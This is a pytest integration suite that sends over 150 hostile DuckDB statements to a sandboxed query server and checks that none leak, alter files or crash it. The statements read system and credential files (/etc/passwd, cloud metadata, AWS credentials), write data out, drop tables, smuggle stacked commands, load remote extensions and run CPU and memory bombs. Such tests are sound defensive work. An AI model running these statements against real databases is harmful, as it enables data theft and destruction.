"""The standing hostile SQL suite: well over 150 hostile statements against a live
``rollbook serve`` with tight sandbox limits.

Every DuckDB function or statement that reads or writes files or the network, replacement scans,
table functions that write, nested ``query()`` and serialized-SQL tricks, settings, extensions,
PRAGMA/CALL, case and comment tricks, and a few CPU and memory bombs. Each must answer within the
timeout plus a few seconds, with INVALID_ARGUMENT, RESOURCE_EXHAUSTED, DEADLINE_EXCEEDED (a bomb
that ran out its time) or a harmless answer that holds no byte of a file it should not reach.
Afterwards the server is up and serves every RPC, no ledger file changed, no file appeared, and the
server's memory (with its sandbox processes) never passed the documented bound. The counts are printed.

Run: ``python -m pytest tests/integration/test_sql_hostile.py -q -s``.
"""

from __future__ import annotations

import collections
import time

import grpc
import pytest

from tests.integration.conftest import MODEL, traj
from tests.integration.test_sql_sandbox import (
    ENGINE_BOUND_MB,
    LIMITED_TIMEOUT_S,
    OVERRUN_S,
    RECURSIVE_CTE,
    SLACK_MB,
    UNINTERRUPTIBLE,
    RssSampler,
    _ledger_files,
    raw_query,
    start_limited_store,
    tree_rss_mb,
)

MARKER = "SECRET-HOSTILE-7f3a"
OK_CODES = {grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.RESOURCE_EXHAUSTED, grpc.StatusCode.DEADLINE_EXCEEDED}

READERS = [
    "read_csv",
    "read_csv_auto",
    "read_parquet",
    "parquet_scan",
    "parquet_metadata",
    "parquet_schema",
    "parquet_file_metadata",
    "parquet_kv_metadata",
    "parquet_bloom_probe",
    "read_json",
    "read_json_auto",
    "read_json_objects",
    "read_json_objects_auto",
    "read_ndjson",
    "read_ndjson_auto",
    "read_ndjson_objects",
    "read_text",
    "read_blob",
    "glob",
    "sniff_csv",
    "iceberg_scan",
    "delta_scan",
    "sqlite_scan",
    "read_xlsx",
    "read_duckdb",
    "read_single_csv_file",
    "read_single_json_file",
    "read_single_parquet_file",
    "parquet_full_metadata",
    "parquet_page_index",
]


def hostile(d: dict[str, str]) -> list[str]:
    """The statements; ``d`` holds the paths: ledger, wal, log, secret, dir, out."""
    ledger, wal, log, secret, dirname, out = d["ledger"], d["wal"], d["log"], d["secret"], d["dir"], d["out"]
    q: list[str] = []
    # every file-reading table function, on the ledger, its WAL, another file, and the network
    for fn in READERS:
        q.append(f"SELECT * FROM {fn}('{ledger}')")
        q.append(f"SELECT * FROM {fn}('{secret}')")
    for target in (
        wal,
        f"{log}/*",
        "/etc/passwd",
        "https://example.com/x.csv",
        "s3://bucket/x.parquet",
        "http://169.254.169.254/latest/meta-data/",
        f"{dirname}/*",
        "~/.bashrc",
        "../../etc/hosts",
    ):
        q.append(f"SELECT * FROM read_text('{target}')")
    q += [
        f"SELECT * FROM read_blob(['{ledger}', '{secret}'])",
        f"SELECT count(*) FROM glob('{dirname}/**')",
        f"SELECT * FROM read_csv('{secret}', header=true, columns={{'m': 'VARCHAR'}})",
        f"SELECT * FROM read_parquet('{dirname}/*.parquet', union_by_name=true)",
        f"SELECT (SELECT content FROM read_text('{secret}')) AS c",
        f"SELECT * FROM trajectories WHERE trajectory_id IN (SELECT content FROM read_text('{secret}'))",
        f"SELECT * FROM trajectories, LATERAL (SELECT * FROM read_blob('{ledger}'))",
    ]
    # replacement scans: a string in FROM is a file
    for target in (
        ledger,
        secret,
        wal,
        "/etc/passwd",
        "https://example.com/x.parquet",
        f"{dirname}/*.csv",
        f"{ledger}.log/00000001.arrow",
    ):
        q.append(f"SELECT * FROM '{target}'")
    q += [
        f'SELECT * FROM "{secret}"',
        f"FROM '{secret}'",
        f"SELECT * FROM '{secret}' AS t",
        f"DESCRIBE '{secret}'",
        f"SUMMARIZE '{secret}'",
        f"SHOW '{secret}'",
    ]
    # writing: statements, and table functions that write
    q += [
        f"COPY trajectories TO '{out}.csv'",
        f"COPY (SELECT 1) TO '{out}.parquet' (FORMAT parquet)",
        f"COPY trajectories FROM '{secret}'",
        f"EXPORT DATABASE '{out}-export'",
        f"IMPORT DATABASE '{dirname}'",
        f"ATTACH '{ledger}' AS l2",
        f"ATTACH '{out}.duckdb' AS evil",
        "ATTACH ':memory:' AS m",
        "DETACH rollbook",
        "USE memory",
        "CREATE TABLE evil AS SELECT 1",
        "CREATE TEMP TABLE evil AS SELECT 1",
        "CREATE VIEW v AS SELECT 1",
        "CREATE MACRO m(x) AS x",
        "CREATE SEQUENCE s",
        "CREATE SCHEMA s",
        "CREATE SECRET (TYPE s3, KEY_ID 'a', SECRET 'b')",
        "INSERT INTO models VALUES ('evil', 1, 0)",
        "UPDATE trajectories SET reward = 0",
        "DELETE FROM trajectories",
        "DROP TABLE trajectories",
        "ALTER TABLE trajectories ADD COLUMN evil INT",
        "TRUNCATE trajectories",
        "VACUUM",
        "ANALYZE",
        "CHECKPOINT",
        "FORCE CHECKPOINT",
        "CHECKPOINT rollbook",
        "BEGIN TRANSACTION",
        "COMMIT",
        "ROLLBACK",
        "SELECT * FROM checkpoint()",
        "SELECT * FROM force_checkpoint()",
        "SELECT * FROM checkpoint('rollbook')",
        "SELECT * FROM truncate_duckdb_logs()",
        "SELECT write_log('evil')",
        "SELECT setseed(0.5)",
        "SELECT nextval('s')",
        "SELECT * FROM duckdb_logs",
        "CALL enable_logging()",
        "CALL truncate_duckdb_logs()",
        "SELECT * FROM enable_logging()",
        "INSERT INTO trajectories SELECT * FROM trajectories",
        "SELECT * FROM enable_profiling()",
        "SELECT * FROM disable_logging()",
        "SELECT * FROM add_grammar_extension('evil')",
        "SELECT * FROM remove_grammar_extension('x')",
        "SELECT * FROM register_external_resource_type('x')",
        "SELECT * FROM create_external_resource('x', 'y')",
        "SELECT * FROM register_external_resource('x')",
        "SELECT * FROM destroy_external_resource('x')",
        # pointer-taking scans of the Python client: arbitrary addresses would crash the process
        "SELECT * FROM arrow_scan(1, 2, 3)",
        "SELECT * FROM arrow_scan_dumb(1, 2, 3)",
        "SELECT * FROM pandas_scan(1)",
        "SELECT * FROM python_arrow_scan(1)",
        "SELECT * FROM python_map_function(1)",
    ]
    # nested and serialized SQL
    inner = f"SELECT * FROM read_blob(''{ledger}'')"
    q += [
        f"SELECT * FROM query('{inner}')",
        f"SELECT * FROM query('SELECT * FROM query(''SELECT * FROM read_text(''''{secret}'''')'')')",
        f"SELECT * FROM query_table('{secret}')",
        f"SELECT * FROM query_table(['{secret}', '{ledger}'])",
        f"SUMMARIZE SELECT * FROM query('{inner}')",
        f"DESCRIBE SELECT * FROM query('{inner}')",
        f"EXPLAIN SELECT * FROM query('{inner}')",
        f"EXPLAIN ANALYZE SELECT * FROM read_blob('{ledger}')",
        f"SELECT json_execute_serialized_sql(json_serialize_sql('{inner}'))",
        f"SELECT * FROM json_execute_serialized_sql(json_serialize_sql('{inner}'))",
        "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
        f"SELECT json_deserialize_sql(json_serialize_sql('{inner}'))",
        f"WITH x AS (SELECT * FROM read_csv('{secret}')) SELECT * FROM x",
        f"SELECT * FROM (SELECT * FROM (SELECT * FROM read_text('{secret}')))",
        f"SELECT * FROM trajectories UNION ALL BY NAME SELECT * FROM read_csv('{secret}')",
        "SELECT * FROM query('DROP TABLE trajectories')",
        "SELECT * FROM query('COPY trajectories TO ''x.csv''')",
        f"SELECT * FROM query('ATTACH ''{ledger}'' AS z')",
        "SELECT * FROM query('CHECKPOINT')",
        "PIVOT (SELECT * FROM query('SELECT 1 AS a')) ON a",
        f"FROM query('{inner}') SELECT size",
    ]
    # settings, PRAGMA, CALL, extensions
    q += [
        "SET enable_external_access = true",
        "SET GLOBAL enable_external_access = true",
        "SET SESSION memory_limit = '100GB'",
        "SET memory_limit = '100GB'",
        "SET threads = 64",
        "SET lock_configuration = false",
        f"SET temp_directory = '{dirname}'",
        "SET allowed_directories = ['/']",
        "RESET ALL",
        "RESET memory_limit",
        "PRAGMA enable_profiling",
        "PRAGMA memory_limit='100GB'",
        "PRAGMA threads=64",
        f"PRAGMA profiling_output='{out}.json'",
        "CALL pragma_version()",
        "CALL checkpoint()",
        "SELECT * FROM pragma_database_size()",
        "SELECT current_setting('temp_directory')",
        "SELECT getenv('HOME')",
        "SELECT * FROM duckdb_secrets()",
        "SELECT which_secret('s3://x', 's3')",
        "CALL load_aws_credentials()",
        "INSTALL httpfs",
        "LOAD httpfs",
        "FORCE INSTALL httpfs",
        "INSTALL httpfs FROM community",
        "INSTALL evil FROM 'http://example.com'",
        "UPDATE EXTENSIONS",
        f"LOAD '{secret}'",
        "LOAD '/tmp/evil.duckdb_extension'",
        "LOAD sqlite",
        "INSTALL sqlite; LOAD sqlite",
        "SELECT * FROM duckdb_extensions() WHERE loaded AND NOT installed",
    ]
    # case, quoting and comment tricks
    q += [
        f"SeLeCt * FrOm ReAd_CsV('{secret}')",
        f"SELECT * FROM \"read_csv\"('{secret}')",
        f"SELECT * FROM main.read_csv('{secret}')",
        f"SELECT * FROM system.main.read_text('{secret}')",
        f"SELECT/**/*/**/FROM/**/read_text('{secret}')",
        f"SELECT * FROM read_text /* x */ ('{secret}')",
        f"SELECT 1 -- comment\n; COPY trajectories TO '{out}.csv'",
        f"SELECT 1; COPY trajectories TO '{out}.csv'",
        f"/* SELECT */ COPY trajectories TO '{out}.csv'",
        "SELECT 1;;",
        "  ;SELECT 1",
        "-- only a comment",
        "",
        "   ",
        f"SELECT 1\u00a0FROM read_text('{secret}')",
        f"select * from READ_TEXT('{secret}')",
        f"SELECT * FROM read_text(E'{secret}')",
        f"SELECT * FROM read_text('{secret}' || '')",
        f"SELECT * FROM read_text(concat('{secret[:5]}', '{secret[5:]}'))",
        f"SELECT * FROM read_text(chr(47) || '{secret[1:]}')",
        f"SELECT * FROM read_text((SELECT '{secret}'))",
        f"SELECT * FROM read_text($${secret}$$)",
        "SELECT $$; DROP TABLE trajectories; $$ AS s",
        f"SELECT * FROM read_text('file://{secret}')",
        f"SELECT * FROM read_text('{secret.replace('/', '//')}')",
        "SELECT '\x00' AS nul",
        "SELECT 1 /* unterminated",
        "SELECT 'unterminated",
        "SELEC 1",
        "SELECT " + "(" * 3000 + "1" + ")" * 3000,
        "SELECT " + "+".join(["1"] * 1000),
        "SELECT " + " || ".join(["'x'"] * 2000),
        "SELECT " + ", ".join(f"{i} AS c{i}" for i in range(5000)),
    ]
    return q


# CPU and memory bombs: few, each ended by the server's limits (memory, timeout, kill)
BOMBS = [
    RECURSIVE_CTE,
    "SELECT len(list(range)) FROM range(2000000000)",
    "SELECT sum(x) FROM (SELECT unnest(range(1000000000)) AS x)",
    "SELECT length(repeat('x', 4000000000))",
    "SELECT length(string_agg(repeat('x', 1000), '')) FROM range(10000000)",
    "SELECT count(DISTINCT repeat(range::VARCHAR, 100)) FROM range(100000000)",
    "SELECT sum(a.range * b.range) FROM range(100000000) a, range(100000000) b",
    "SELECT sum(hash(range)) FROM range(10000000000000)",
    UNINTERRUPTIBLE,
    "SELECT * FROM range(100000000) ORDER BY random()",
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    s = start_limited_store(tmp_path_factory, "hostile", 20)
    yield s
    s.kill()


def _answer_leaks(table, secrets: list[bytes]) -> bool:
    import io

    import pyarrow as pa

    sink = io.BytesIO()
    with pa.ipc.new_stream(sink, table.schema) as writer:
        writer.write_table(table)
    data = sink.getvalue()
    return any(s in data for s in secrets)


def test_hostile_sql_cannot_hurt_the_store(hostile_store, capsys):
    s = hostile_store
    directory = s.db.parent
    secret = directory / "secret.csv"
    secret.write_text(f"m\n{MARKER}\n")
    d = {
        "ledger": str(s.db),
        "wal": f"{s.db}.wal",
        "log": f"{s.db}.log",
        "secret": str(secret),
        "dir": str(directory),
        "out": str(directory / "stolen"),
    }
    statements = hostile(d) + BOMBS
    assert len(statements) >= 150
    with s.client() as client:
        client.query("SELECT count(*) FROM trajectories")  # the first snapshot (checkpoints the ledger)
    files_before = _ledger_files(s.db)
    listing_before = sorted(p.name for p in directory.iterdir())
    ledger_head = s.db.read_bytes()[:4096]
    secrets = [MARKER.encode(), ledger_head[8:16]]  # the DuckDB magic and version bytes of the file header
    base = tree_rss_mb(s.proc.pid)
    bound = base + ENGINE_BOUND_MB + SLACK_MB
    codes: collections.Counter = collections.Counter()
    slowest = (0.0, "")
    problems: list[str] = []
    answered: list[str] = []  # harmless statements that answer (checked for leaked bytes)
    t_start = time.monotonic()
    with RssSampler(s.proc.pid) as sampler:
        for sql in statements:
            result, took = raw_query(s, sql, deadline=LIMITED_TIMEOUT_S + 30)
            slowest = max(slowest, (took, sql[:80]))
            if took > LIMITED_TIMEOUT_S + OVERRUN_S:
                problems.append(f"took {took:.1f} s: {sql[:100]}")
            if isinstance(result, grpc.RpcError):
                codes[result.code().name] += 1
                if result.code() not in OK_CODES:
                    problems.append(f"{result.code().name}: {sql[:100]}: {result.details()[:200]}")
                if MARKER in (result.details() or ""):
                    problems.append(f"error text leaks the secret: {sql[:100]}")
            else:
                codes["OK"] += 1
                answered.append(sql[:60])
                if _answer_leaks(result, secrets):
                    problems.append(f"answer leaks a file's bytes: {sql[:100]}")
            if not s.alive:
                problems.append(f"server died after: {sql[:100]}")
                break
    elapsed = time.monotonic() - t_start
    with capsys.disabled():
        print(
            f"\nhostile SQL: {len(statements)} statements in {elapsed:.0f} s; outcomes {dict(codes)}; "
            f"slowest {slowest[0]:.1f} s ({slowest[1]!r}); server+sandbox RSS {base:.0f} MiB at rest, "
            f"peak {sampler.peak:.0f} MiB (bound {bound:.0f} MiB); answered harmlessly: {answered}"
        )
    assert not problems, "\n".join(problems)
    assert sampler.peak < bound, (sampler.peak, bound)
    assert s.alive
    assert _ledger_files(s.db) == files_before, "a query changed a ledger file"
    assert sorted(p.name for p in directory.iterdir()) == listing_before, "a query created or removed a file"

    # every RPC still serves
    with s.client() as client:
        assert client.stats().accepted == 20
        assert client.query("SELECT count(*) AS n FROM trajectories").to_pylist() == [{"n": 20}]
        assert client.submit([traj("h-after", n=8)]).accepted == 1
        batch = client.pull_batch(trainer_id="t-h", trainer_version=0, max_staleness=4, model_id=MODEL, num_samples=2)
        assert batch.num_rows == 2 and client.ack_batch(batch.lease_id, "t-h") == 2
        client.submit([traj("h-reward", n=8, reward=None)])
        assert client.set_reward(0.5, trajectory_id="h-reward") == "h-reward"
        client.register_model("other", vocab_size=64)
        assert client.publish_version("tiny", 2, checksum="c2") == 2
        client.report_train_step(
            step=1, trainer_id="t-h", version=2, lease_id=batch.lease_id, started_at=0.0, finished_at=1.0, stats={"loss": 0.0}
        )
        assert client.query("SELECT count(*) AS n FROM trajectories").to_pylist() == [{"n": 22}]
